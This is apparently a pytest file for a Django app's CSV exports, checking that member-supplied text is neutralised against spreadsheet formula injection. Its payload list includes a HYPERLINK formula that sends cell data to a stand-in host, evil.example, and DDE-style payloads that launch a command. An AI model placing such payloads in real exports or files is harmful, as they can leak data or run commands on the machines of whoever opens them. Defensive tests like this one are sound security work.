"""Every CSV export Tandem offers (participants: API and page; people: API and page) writes a
member's own words so that no spreadsheet runs them as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from tandem.core.exports import neutralise_cell, restore_cell
from tandem.participants.models import Answer, Participant
from tandem.people.models import Profile
from tandem.people.tests.factories import ProfileFactory
from tandem.programs.models import QuestionKind
from tandem.programs.tests.factories import EnrollmentQuestionFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "'=1+1",
]

EXPORTS = ["participants-api", "participants-page", "people-api", "people-page"]


def _download(name, cast, client, api_as) -> list[list[str]]:
    if name == "participants-api":
        response = api_as(cast.manager).get(f"programs/{cast.program.pk}/participants/export")
    elif name == "participants-page":
        client.force_login(cast.manager)
        response = client.get(
            reverse("participants:program_participants_export", args=[cast.program.pk])
        )
    elif name == "people-api":
        response = api_as(cast.admin).get("people/export")
    else:
        client.force_login(cast.admin)
        response = client.get(reverse("people:export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _state() -> list[tuple]:
    return sorted(Profile.objects.values_list("user_id", "job_title")) + sorted(
        Participant.objects.values_list("pk", "motivation")
    )


@pytest.mark.parametrize("export", EXPORTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_malicious_member_cell_comes_out_neutralised(cast, client, api_as, export, payload):
    # given a mentee whose job title, name and motivation (and an answer) are formulas
    mentee = cast.mentee
    mentee.first_name = payload
    mentee.save(update_fields=["first_name"])
    ProfileFactory(user=mentee)
    Profile.objects.filter(user=mentee).update(job_title=payload, department=payload)
    Participant.objects.filter(pk=cast.mentee_participant.pk).update(motivation=payload)
    question = EnrollmentQuestionFactory(
        program=cast.program, prompt=payload, kind=QuestionKind.TEXT, position=1
    )
    Answer.objects.create(participant=cast.mentee_participant, question=question, value=payload)
    before = _state()
    # when
    table = _download(export, cast, client, api_as)
    # then every cell that held the payload holds it neutralised, and no cell starts a formula
    header, rows = table[0], table[1:]
    row = next(r for r in rows if "mentee@northwind.test" in r)
    expected = neutralise_cell(payload)
    assert expected.startswith("'")
    columns = (
        ["First name", "Job title", "Department", "Motivation", expected]
        if export.startswith("participants")
        else ["First name", "Job title", "Department"]
    )
    for column in columns:
        assert row[header.index(column)] == expected
        assert restore_cell(row[header.index(column)]) == payload
    for cell in [*header, *(cell for r in rows for cell in r)]:
        stripped = cell.lstrip()
        assert cell[:1] not in ("\t", "\r", "\n")
        assert stripped[:1] not in ("=", "+", "-", "@")
    # and reading it changed nothing
    assert _state() == before
